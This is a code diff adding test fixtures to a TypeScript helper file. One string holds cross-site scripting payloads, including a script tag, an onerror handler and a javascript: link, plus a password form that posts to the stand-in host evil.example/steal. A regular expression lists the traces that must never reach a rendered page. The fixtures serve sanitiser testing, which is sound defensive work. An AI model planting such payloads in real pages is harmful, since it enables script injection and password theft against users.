@@ -49,3 +49,11 @@ export function shownPage(state: string): PersistedActor {
   const { id } = (router.context.shown as { ref: { id: string } }).ref;
   return router.children[id]!.snapshot;
 }
+
+/** Backend HTML as an attacker would write it: a script, handlers, a script link, a frame and a form posting elsewhere. */
+export const HOSTILE_HTML =
+  '<script>alert(1)</script><img src="x" onerror="alert(2)"><a href="javascript:alert(3)">Ma page</a>' +
+  '<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/steal"><input type="password" name="p"></form>';
+
+/** What must never reach a page from HOSTILE_HTML. */
+export const HOSTILE_TRACES = /<script|onerror|onclick|javascript:|<iframe|<form|type="password"|evil\.example|alert\(/;
